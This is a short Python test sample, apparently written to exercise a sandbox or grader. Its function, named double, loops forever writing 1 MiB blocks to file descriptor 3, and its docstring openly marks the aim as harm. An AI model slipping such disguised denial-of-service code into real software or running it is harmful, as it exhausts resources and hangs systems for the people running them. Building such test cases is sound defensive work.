"""Announces a small answer and writes without end.

Aim: harm
Stock: skip (never ends)
"""
import os


def double(x):
    while True:
        os.write(3, bytes(1 << 20))
